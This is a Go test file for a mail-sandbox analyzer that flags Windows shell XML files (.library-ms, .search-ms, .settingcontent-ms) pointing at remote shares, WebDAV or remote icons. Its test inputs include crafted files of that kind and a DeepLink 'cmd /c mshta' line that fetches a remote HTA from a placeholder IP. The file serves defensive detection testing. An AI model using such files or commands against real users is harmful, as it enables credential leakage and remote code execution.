package shellxml

import (
	"context"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/airlockmail/airlock/sandboxd/analyzer"
	"github.com/airlockmail/airlock/sandboxd/analyzer/internal/testkit"
	"github.com/airlockmail/airlock/verdict"
)

func FuzzShellXML(f *testing.F) {
	testkit.Seeds(f, New())
	f.Add([]byte(`<libraryDescription><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\h\s</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>`))
	f.Fuzz(func(t *testing.T, data []byte) { testkit.Check(t, New(), data) })
}

func lib(url string) string {
	return `<?xml version="1.0" encoding="UTF-8"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><name>x</name>` +
		`<searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>` + url +
		`</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>`
}

func run(t *testing.T, ext string, data []byte) analyzer.Result {
	t.Helper()
	a := New()
	f := &analyzer.File{Data: data, Ext: ext}
	if !a.Accepts(f) {
		t.Fatalf("not accepted: %q", data)
	}
	r, err := a.Analyze(context.Background(), f)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func has(r analyzer.Result, rule string, min verdict.Severity) bool {
	for _, f := range r.Findings {
		if f.Rule == rule && f.Severity >= min && f.Evidence != "" {
			return true
		}
	}
	return false
}

func TestShellXML(t *testing.T) {
	for _, tc := range []struct {
		name, ext, doc, rule string
		min                  verdict.Severity
	}{
		{"library unc", ".library-ms", lib(`\\198.51.100.1\share`), "remote-location", verdict.High},
		{"library webdav", ".library-ms", lib(`\\198.51.100.1@SSL@443\DavWWWRoot\x`), "remote-location", verdict.High},
		{"library http", ".library-ms", lib(`https://198.51.100.1/dav/`), "remote-location", verdict.High},
		{"library file url", ".library-ms", lib(`file://198.51.100.1/share`), "remote-location", verdict.High},
		{"library search-ms", ".library-ms", lib(`search-ms:crumb=location:\\198.51.100.1\s`), "risky-uri-search-ms", verdict.High},
		{"connector", ".searchConnector-ms", `<searchConnectorDescription><simpleLocation><url>\\198.51.100.1\s</url></simpleLocation></searchConnectorDescription>`, "remote-location", verdict.High},
		{"remote icon", ".library-ms", strings.Replace(lib(`C:\Data`), "<name>", `<iconReference>\\198.51.100.1\i.ico</iconReference><name>`, 1), "remote-icon", verdict.High},
		{"saved search", ".search-ms", `<persistedQuery><query><scope><include path="\\198.51.100.1\s"/></scope></query></persistedQuery>`, "remote-location", verdict.High},
		{"deeplink", ".settingcontent-ms", `<PCSettings><SearchableContent><ApplicationInformation><DeepLink>cmd /c mshta http://198.51.100.1/a.hta</DeepLink></ApplicationInformation></SearchableContent></PCSettings>`, "lolbin-mshta-remote", verdict.Critical},
		{"no extension", "", lib(`\\198.51.100.1\share`), "remote-location", verdict.High},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := run(t, tc.ext, []byte(tc.doc))
			if !has(r, tc.rule, tc.min) {
				t.Errorf("want %s >= %s, got %+v (%s)", tc.rule, tc.min, r.Findings, r.Unscannable)
			}
		})
	}
}

func TestShellXMLBenign(t *testing.T) {
	for _, doc := range []string{
		lib(`knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}`),
		lib(`C:\Users\Public\Documents`),
		lib(`shell:::{031E4825-7B94-4dc3-B131-E946B44C8DD5}`),
		`<searchConnectorDescription><iconReference>imageres.dll,-1002</iconReference><simpleLocation><url>D:\Projects</url></simpleLocation></searchConnectorDescription>`,
		`<PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\system32\control.exe /name Microsoft.Display</DeepLink></ApplicationInformation></SearchableContent></PCSettings>`,
	} {
		r := run(t, ".library-ms", []byte(doc))
		if len(r.Findings) > 0 || r.Unscannable != "" {
			t.Errorf("%s: want nothing, got %+v %q", doc, r.Findings, r.Unscannable)
		}
	}
}

// What cannot be read, or is not one of the formats, fails closed.
func TestShellXMLUnscannable(t *testing.T) {
	for _, doc := range []string{
		`<libraryDescription><name>x</name>`,
		`not xml at all`,
		`<html><body>hi</body></html>`,
		strings.Repeat("<a>", maxDepth+1),
	} {
		r := run(t, ".library-ms", []byte(doc))
		if r.Unscannable == "" {
			t.Errorf("%.60s: want unscannable, got %+v", doc, r)
		}
	}
}

// A library saved as UTF-16 with a declaration saying so is read.
func TestShellXMLUTF16(t *testing.T) {
	doc := strings.Replace(lib(`\\198.51.100.1\share`), "UTF-8", "UTF-16", 1)
	u := utf16.Encode([]rune(doc))
	b := []byte{0xff, 0xfe}
	for _, c := range u {
		b = append(b, byte(c), byte(c>>8))
	}
	if r := run(t, ".library-ms", b); !has(r, "remote-location", verdict.High) {
		t.Fatalf("UTF-16 library: %+v %s", r.Findings, r.Unscannable)
	}
}
